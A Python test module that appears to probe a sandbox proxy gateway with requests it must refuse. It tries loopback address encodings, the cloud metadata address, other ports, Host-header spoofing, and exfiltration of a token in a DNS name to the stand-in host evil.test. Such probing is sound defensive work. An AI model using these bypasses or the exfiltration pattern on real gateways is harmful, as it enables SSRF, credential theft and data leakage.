"""The gateway asked, by every door, for what it must refuse (A2, A3, A9, D1, D5, E5)."""

from __future__ import annotations

import socket

from exeat.attack.model import EVERYWHERE, Absent, Group, Scene, need
from exeat.attack.moves import say_absolute, say_connect, say_socks

GROUP = Group("proxy", "asking the gateway", EVERYWHERE)


def _port(scene: Scene) -> int:
    return scene.tcp["v4"][1]


@GROUP.probe("E5.connect4", "CONNECT 127.0.0.1")
def connect4(scene: Scene) -> str:
    return say_connect(scene, f"127.0.0.1:{_port(scene)}")


@GROUP.probe("E5.connect6", "CONNECT [::1]")
def connect6(scene: Scene) -> str:
    return say_connect(scene, f"[::1]:{need(scene.tcp, 'v6', 'the machine has no IPv6')[1]}")


@GROUP.probe("A3.connect-mapped", "CONNECT [::ffff:127.0.0.1]")
def connect_mapped(scene: Scene) -> str:
    need(scene.tcp, "v6", "the machine has no IPv6")
    return say_connect(scene, f"[::ffff:127.0.0.1]:{_port(scene)}")


@GROUP.probe("D5.connect-localhost", "CONNECT localhost")
def connect_localhost(scene: Scene) -> str:
    # An address is asked for if the name means ::1 first: both ports are sinks.
    return say_connect(scene, f"localhost:{_port(scene)}")


@GROUP.probe("A2.connect-decimal", "CONNECT 2130706433 (127.0.0.1 as one number)")
def connect_decimal(scene: Scene) -> str:
    return say_connect(scene, f"2130706433:{_port(scene)}")


@GROUP.probe("A2.connect-hex", "CONNECT 0x7f.1")
def connect_hex(scene: Scene) -> str:
    return say_connect(scene, f"0x7f.1:{_port(scene)}")


@GROUP.probe("A2.connect-short", "CONNECT 127.1")
def connect_short(scene: Scene) -> str:
    return say_connect(scene, f"127.1:{_port(scene)}")


@GROUP.probe("A5.connect-own", "CONNECT to the machine's own address")
def connect_own(scene: Scene) -> str:
    host, port = need(scene.tcp, "own4", "the machine has no IPv4 address besides loopback")
    return say_connect(scene, f"{host}:{port}")


@GROUP.probe("A3.connect-metadata", "CONNECT 169.254.169.254")
def connect_metadata(scene: Scene) -> str:
    host, port = need(scene.tcp, "metadata", "the machine does not hold that address itself")
    return say_connect(scene, f"{host}:{port}")


@GROUP.probe("A9.connect-port", "CONNECT to the allowed host, another port")
def connect_port(scene: Scene) -> str:
    return say_connect(scene, f"{scene.allowed[0]}:{_port(scene)}")


@GROUP.probe("A9.socks-port", "SOCKS5 to the allowed host, another port")
def socks_port(scene: Scene) -> str:
    name = scene.allowed[0].encode()
    return say_socks(scene, b"\x03" + bytes([len(name)]) + name, _port(scene))


@GROUP.probe("E5.socks4", "SOCKS5 to 127.0.0.1")
def socks4(scene: Scene) -> str:
    return say_socks(scene, b"\x01" + socket.inet_aton("127.0.0.1"), _port(scene))


@GROUP.probe("E5.socks6", "SOCKS5 to ::1")
def socks6(scene: Scene) -> str:
    port = need(scene.tcp, "v6", "the machine has no IPv6")[1]
    return say_socks(scene, b"\x04" + socket.inet_pton(socket.AF_INET6, "::1"), port)


@GROUP.probe("D5.socks-localhost", "SOCKS5 to localhost")
def socks_localhost(scene: Scene) -> str:
    return say_socks(scene, b"\x03\x09localhost", _port(scene))


@GROUP.probe("E5.absolute", "GET http://127.0.0.1/ as a proxy's client")
def absolute(scene: Scene) -> str:
    return say_absolute(scene, f"127.0.0.1:{_port(scene)}")


@GROUP.probe("B1.absolute-host", "a forbidden URL with the allowed name in its Host header")
def absolute_host(scene: Scene) -> str:
    return say_absolute(scene, f"127.0.0.1:{_port(scene)}", host=scene.allowed[0])


@GROUP.probe("D1.connect-name", "data in a name: CONNECT token.evil.test")
def connect_name(scene: Scene) -> str:
    if not scene.resolver_is_ours:
        raise Absent("the system's resolver is not the fake one, and a look-up would leave the machine")
    return say_connect(scene, f"{scene.token}.evil.test:443")


@GROUP.probe("D1.socks-name", "data in a name: SOCKS5 to token.evil.test")
def socks_name(scene: Scene) -> str:
    if not scene.resolver_is_ours:
        raise Absent("the system's resolver is not the fake one, and a look-up would leave the machine")
    name = f"{scene.token}.evil.test".encode()
    return say_socks(scene, b"\x03" + bytes([len(name)]) + name, 443)
